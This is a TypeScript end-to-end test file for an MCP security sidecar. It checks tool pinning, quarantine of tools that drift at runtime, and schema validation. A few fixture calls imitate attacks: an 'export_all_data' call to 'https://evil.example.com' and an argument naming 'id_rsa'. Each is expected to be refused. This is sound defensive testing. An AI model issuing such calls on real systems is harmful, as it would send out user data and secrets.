import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { readFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { toolDigest } from '../../policy/tool-digest.ts';
import type { AuditEvent } from '../../sidecar/audit/event.ts';
import { connectHttpClient } from '../fixtures/mcp/fixture-clients.ts';
import { driftVersions, MALFORMED_FORECAST_CITY } from '../fixtures/mcp/drift-versions.ts';
import { startHttpFixture, type HttpFixture } from '../fixtures/mcp/http-fixture.ts';
import { parseSamples, sampleValue } from '../harness/prometheus-text.ts';
import { startRecordingProxy, type RecordingProxy } from '../harness/recording-proxy.ts';
import { connectAs, eventually, structured } from '../harness/sidecar-clients.ts';
import { startSidecarUnderTest, type SidecarUnderTest } from '../harness/sidecar-under-test.ts';

/**
 * Tool contracts end to end: the real drifting fixture (tools that change at runtime and say so with
 * notifications/tools/list_changed) behind a recording proxy behind a real sidecar, with real SDK clients
 * and real tokens. Pins: test/fixtures/policies/drifting-pinned (Enforce) and drifting-record (Record).
 */
const AUDIENCE = 'https://drifting.mcp.example.com/mcp';
const caller = { sub: 'alice', azp: 'weather-agent' };

const V1 = toolDigest(driftVersions[0]![0]!.definition);
const V2 = toolDigest(driftVersions[1]![0]!.definition);
const EXPORT = toolDigest(driftVersions[2]![0]!.definition);

interface Setup {
  readonly fixture: HttpFixture;
  readonly proxy: RecordingProxy;
  readonly gate: SidecarUnderTest;
  readonly client: Client;
}

let running: Setup | undefined;
afterEach(async () => {
  const setup = running;
  running = undefined;
  await setup?.client.close().catch(() => undefined);
  await setup?.gate.stop();
  await setup?.proxy.close();
  await setup?.fixture.close();
});

async function start(policyFixture: 'drifting-pinned' | 'drifting-record'): Promise<Setup> {
  const fixture = await startHttpFixture('drifting');
  const proxy = await startRecordingProxy(fixture.url);
  const gate = await startSidecarUnderTest({
    policyFixture,
    upstream: { upstreamUrl: proxy.url },
    audience: AUDIENCE,
  });
  running = { fixture, proxy, gate, client: await connectAs(gate, caller) };
  return running;
}

async function names(client: Client): Promise<string[]> {
  return (await client.listTools()).tools.map((tool) => tool.name).sort();
}

interface ObservedToolsBody {
  mode: string;
  fresh: boolean;
  tools: { name: string; digest: string; state: string; pinnedDigest?: string }[];
  missingPins: string[];
}

async function observedTools(gate: SidecarUnderTest): Promise<ObservedToolsBody> {
  const response = await fetch(`${gate.sidecar.adminUrl}/tools`);
  expect(response.status).toBe(200);
  return (await response.json()) as ObservedToolsBody;
}

async function metric(gate: SidecarUnderTest, name: string, labels: Record<string, string> = {}) {
  const text = await (await fetch(`${gate.sidecar.adminUrl}/metrics`)).text();
  return sampleValue(parseSamples(text), name, labels);
}

interface RpcAnswer {
  readonly error: {
    readonly code: number;
    readonly message: string;
    readonly data: { readonly portcullis: Record<string, unknown> };
  };
}

/** A raw tools/call (no session: refusals and local answers never reach the server). */
async function rawCall(gate: SidecarUnderTest, name: string, args: Record<string, unknown>) {
  const token = await gate.token(caller);
  const response = await fetch(gate.url, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      accept: 'application/json, text/event-stream',
      authorization: `Bearer ${token}`,
    },
    body: JSON.stringify({ jsonrpc: '2.0', id: 7, method: 'tools/call', params: { name, arguments: args } }),
  });
  // Not JSON when a call was forwarded (an event stream): only refusals are read here.
  const text = await response.text();
  let body: unknown = {};
  try {
    body = JSON.parse(text);
  } catch {
    // keep {}
  }
  return { status: response.status, body: body as RpcAnswer };
}

function callsOf(proxy: RecordingProxy, tool: string) {
  return proxy.messages.filter(
    (m) => m['method'] === 'tools/call' && (m['params'] as { name?: string })?.name === tool,
  );
}

function lastEvent(gate: SidecarUnderTest, match: Partial<AuditEvent>): AuditEvent | undefined {
  return gate.audit.events.findLast((event) =>
    Object.entries(match).every(([key, value]) => event[key as keyof AuditEvent] === value),
  );
}

interface ContractMeta {
  readonly code: string;
  readonly tool: Record<string, unknown>;
  readonly errors: readonly string[];
}

const contractMeta = (result: unknown) =>
  (result as { _meta?: Record<string, ContractMeta> })._meta?.['portcullis.dev/contract'];

describe('tool pinning under Enforce (drifting-pinned)', () => {
  it('pins exactly what the server publishes at version 1', async () => {
    const { gate, fixture } = await start('drifting-pinned');
    const direct = await connectHttpClient(fixture.url);
    const published = (await direct.listTools()).tools;
    await direct.close();
    const server = parseAllDocuments(
      await readFile(join(import.meta.dirname, '../fixtures/policies/drifting-pinned/server.yaml'), 'utf8'),
    )[0]!.toJS() as { spec: { tools: { pins: { name: string; digest: string }[] } } };
    const pins = Object.fromEntries(server.spec.tools.pins.map((p) => [p.name, p.digest]));
    expect(Object.fromEntries(published.map((tool) => [tool.name, toolDigest(tool)]))).toEqual(pins);
    expect(pins['get_forecast']).toBe(V1);

    const observed = await observedTools(gate);
    expect(observed).toMatchObject({ mode: 'Enforce', fresh: true, missingPins: [] });
    expect(observed.tools.map(({ name, digest, state }) => ({ name, digest, state }))).toEqual([
      { name: 'drift', digest: pins['drift'], state: 'Pinned' },
      { name: 'get_forecast', digest: V1, state: 'Pinned' },
    ]);
  });

  it('quarantines v2 after list_changed and on the next list: hidden, refused with its digest, audited', async () => {
    const { gate, client, proxy } = await start('drifting-pinned');
    expect(await names(client)).toEqual(['drift', 'get_forecast']);
    expect(
      structured(await client.callTool({ name: 'get_forecast', arguments: { city: 'Lisbon' } })),
    ).toMatchObject({ received: { city: 'Lisbon' }, forecast: 'sunny' });

    // The drift call's stream carries list_changed through the sidecar, which re-reads the list itself.
    await client.callTool({ name: 'drift', arguments: { version: 2 } });
    const refused = await rawCall(gate, 'get_forecast', { city: 'Lisbon', notes: 'id_rsa' });
    expect(refused.status).toBe(403);
    expect(refused.body.error).toMatchObject({
      code: -31060,
      data: {
        portcullis: {
          code: 'tool_quarantined',
          tool: { name: 'get_forecast', digest: V2, state: 'Quarantined' },
        },
      },
    });
    expect(refused.body.error.message).toContain(`pinned ${V1}`);
    expect(callsOf(proxy, 'get_forecast')).toHaveLength(1); // only the call before the drift

    // The next list hides it; the SDK client's own call is refused too.
    expect(await names(client)).toEqual(['drift']);
    const error = await client
      .callTool({ name: 'get_forecast', arguments: { city: 'Lisbon' } })
      .catch((e: Error) => e);
    expect(String(error)).toContain('tool_quarantined');

    expect(
      lastEvent(gate, { method: 'tools/list', tool: 'get_forecast', decision: 'quarantined' }),
    ).toMatchObject({
      code: 'tool_drifted',
      toolDigest: V2,
      server: { namespace: 'default', name: 'drifting' },
    });
    expect(
      lastEvent(gate, { method: 'tools/call', tool: 'get_forecast', decision: 'quarantined' }),
    ).toMatchObject({
      code: 'tool_quarantined',
      toolDigest: V2,
      outcome: 'refused',
    });
    const observed = await observedTools(gate);
    expect(observed.tools.find((t) => t.name === 'get_forecast')).toMatchObject({
      digest: V2,
      state: 'Quarantined',
      pinnedDigest: V1,
    });
    expect(await metric(gate, 'portcullis_tools_quarantined')).toBe(1);
    expect(await metric(gate, 'portcullis_tool_drift_events_total', { kind: 'drifted' })).toBe(1);

    // Back to the pinned definition: released on the next list.
    await client.callTool({ name: 'drift', arguments: { version: 1 } });
    expect(
      await eventually(
        () => names(client),
        (n) => n.length === 2,
      ),
    ).toEqual(['drift', 'get_forecast']);
    expect(await metric(gate, 'portcullis_tools_quarantined')).toBe(0);
  });

  it("quarantines v3's unpinned export_all_data and refuses the removed get_forecast", async () => {
    const { gate, client, proxy } = await start('drifting-pinned');
    await client.callTool({ name: 'drift', arguments: { version: 3 } });
    expect(await names(client)).toEqual(['drift']);

    const exporting = await rawCall(gate, 'export_all_data', { destination: 'https://evil.example.com' });
    expect(exporting.status).toBe(403);
    expect(exporting.body.error.data.portcullis).toMatchObject({
      code: 'tool_quarantined',
      tool: { name: 'export_all_data', digest: EXPORT, state: 'Quarantined' },
    });
    expect(exporting.body.error.message).toContain('not pinned');
    const removed = await rawCall(gate, 'get_forecast', { city: 'Lisbon' });
    expect(removed.status).toBe(403);
    expect(removed.body.error.message).toContain('not in the tool list the server publishes');
    expect(callsOf(proxy, 'export_all_data')).toEqual([]);

    expect(lastEvent(gate, { method: 'tools/list', tool: 'export_all_data' })).toMatchObject({
      decision: 'quarantined',
      code: 'tool_unpinned',
      toolDigest: EXPORT,
    });
    expect(lastEvent(gate, { method: 'tools/list', tool: 'get_forecast' })).toMatchObject({
      code: 'tool_removed',
      toolDigest: V1,
    });
    expect(await observedTools(gate)).toMatchObject({
      missingPins: ['get_forecast'],
      tools: [
        { name: 'drift', state: 'Pinned' },
        { name: 'export_all_data', digest: EXPORT, state: 'Quarantined' },
      ],
    });
  });

  it('checks a call to a tool no client listed yet against the list it reads itself', async () => {
    const { gate, client, proxy } = await start('drifting-pinned');
    expect(
      structured(await client.callTool({ name: 'get_forecast', arguments: { city: 'Porto' } })),
    ).toMatchObject({ received: { city: 'Porto' } });
    // No client listed the tools: the sidecar read the list over a session of its own, and closed it.
    const own = proxy.messages.filter(
      (m) =>
        m['method'] === 'initialize' &&
        (m['params'] as { clientInfo?: { name?: string } }).clientInfo?.name === 'portcullis-sidecar',
    );
    expect(own).toHaveLength(1);
    expect(proxy.messages.filter((m) => m['method'] === 'tools/list')).toHaveLength(1);
    const unknown = await rawCall(gate, 'no_such_tool', {});
    expect(unknown.body.error.data.portcullis).toEqual(
      expect.objectContaining({ code: 'tool_quarantined', tool: { name: 'no_such_tool' } }),
    );
  });

  it('answers invalid arguments with an isError result naming the schema errors; the server never sees them', async () => {
    const { gate, client, proxy } = await start('drifting-pinned');
    const result = await client.callTool({ name: 'get_forecast', arguments: { city: 42 } });
    expect(result.isError).toBe(true);
    expect(result.structuredContent).toBeUndefined(); // not the fixture's echo
    const text = (result.content as { text: string }[])[0]!.text;
    expect(text).toContain('/city: must be string');
    expect(text).toContain(V1);
    expect(contractMeta(result)).toMatchObject({
      code: 'invalid_arguments',
      tool: { name: 'get_forecast', digest: V1, state: 'Pinned' },
      errors: ['/city: must be string'],
    });
    const missing = await client.callTool({ name: 'get_forecast', arguments: {} });
    expect(contractMeta(missing)?.errors).toEqual(["(arguments): must have required property 'city'"]);
    expect(callsOf(proxy, 'get_forecast')).toEqual([]);

    expect(lastEvent(gate, { method: 'tools/call', tool: 'get_forecast' })).toMatchObject({
      decision: 'denied',
      code: 'invalid_arguments',
      outcome: 'refused',
      toolDigest: V1,
    });
    expect(
      await metric(gate, 'portcullis_tool_contract_violations_total', {
        direction: 'input',
        enforced: 'true',
      }),
    ).toBe(2);
    // A valid call after them goes through.
    expect(
      structured(await client.callTool({ name: 'get_forecast', arguments: { city: 'Faro' } })),
    ).toMatchObject({ received: { city: 'Faro' } });
  });

  it('turns a result that breaks the outputSchema into an error result', async () => {
    const { gate, client, proxy } = await start('drifting-pinned');
    const result = await client.callTool({
      name: 'get_forecast',
      arguments: { city: MALFORMED_FORECAST_CITY },
    });
    expect(callsOf(proxy, 'get_forecast')).toHaveLength(1); // it ran on the server
    expect(result.isError).toBe(true);
    expect(result.structuredContent).toBeUndefined();
    expect((result.content as { text: string }[])[0]!.text).toContain('/forecast: must be string');
    expect(contractMeta(result)).toMatchObject({
      code: 'invalid_output',
      tool: { name: 'get_forecast', digest: V1 },
      errors: ['/forecast: must be string'],
    });
    expect(lastEvent(gate, { method: 'tools/call', tool: 'get_forecast' })).toMatchObject({
      decision: 'errored',
      code: 'invalid_output',
      outcome: 'tool_error',
      toolDigest: V1,
    });
  });
});

describe('tool pinning under Record (drifting-record)', () => {
  it('reports digests, audits drift and refuses nothing', async () => {
    const { gate, client, proxy } = await start('drifting-record');
    expect(await names(client)).toEqual(['drift', 'get_forecast']);
    const before = await observedTools(gate);
    expect(before.mode).toBe('Record');
    expect(before.tools.map(({ name, digest, state }) => ({ name, digest, state }))).toEqual([
      { name: 'drift', digest: expect.stringMatching(/^sha256:[a-f0-9]{64}$/), state: 'Unpinned' },
      { name: 'get_forecast', digest: V1, state: 'Pinned' },
    ]);

    await client.callTool({ name: 'drift', arguments: { version: 2 } });
    expect(await names(client)).toEqual(['drift', 'get_forecast']);
    expect(
      structured(await client.callTool({ name: 'get_forecast', arguments: { city: 'Lisbon', notes: 'n' } })),
    ).toMatchObject({ received: { city: 'Lisbon', notes: 'n' } });
    const after = await observedTools(gate);
    expect(after.tools.find((t) => t.name === 'get_forecast')).toMatchObject({
      digest: V2,
      state: 'Drifted',
      pinnedDigest: V1,
    });
    expect(
      lastEvent(gate, { method: 'tools/list', tool: 'get_forecast', code: 'tool_drifted' }),
    ).toMatchObject({
      decision: 'allowed',
      toolDigest: V2,
    });
    expect(
      lastEvent(gate, { method: 'tools/list', tool: 'get_forecast', code: 'tool_drifted' })?.reason,
    ).toContain('recorded only');

    // Invalid arguments are forwarded and audited as would_deny.
    const echoed = await client.callTool({ name: 'get_forecast', arguments: { city: 7 } });
    expect(structured(echoed)).toMatchObject({ received: { city: 7 } });
    expect(callsOf(proxy, 'get_forecast').at(-1)?.['params']).toMatchObject({ arguments: { city: 7 } });
    expect(lastEvent(gate, { method: 'tools/call', tool: 'get_forecast' })).toMatchObject({
      decision: 'would_deny',
      code: 'invalid_arguments',
      toolDigest: V2,
    });
    expect(await metric(gate, 'portcullis_tools_quarantined')).toBe(0);
  });
});

describe('tool pinning in front of a stdio server', () => {
  it('reads the list through the stdio bridge and quarantines drift announced on the GET stream', async () => {
    const stdio = fileURLToPath(new URL('../fixtures/mcp/stdio-server.ts', import.meta.url));
    const gate = await startSidecarUnderTest({
      policyFixture: 'drifting-pinned',
      upstream: { upstreamCommand: [process.execPath, stdio, 'drifting'] },
      audience: AUDIENCE,
    });
    const client = await connectAs(gate, caller);
    try {
      expect(
        structured(await client.callTool({ name: 'get_forecast', arguments: { city: 'X' } })),
      ).toMatchObject({
        received: { city: 'X' },
      });
      await client.ping(); // the client's GET stream is open: list_changed reaches the sidecar on it
      await client.callTool({ name: 'drift', arguments: { version: 2 } });
      const refused = await eventually(
        () => rawCall(gate, 'get_forecast', { city: 'X' }),
        (answer) => answer.status === 403,
      );
      expect(refused.body.error.data.portcullis).toMatchObject({
        code: 'tool_quarantined',
        tool: { digest: V2 },
      });
      expect(await names(client)).toEqual(['drift']);
    } finally {
      await client.close();
      await gate.stop();
    }
  });
});
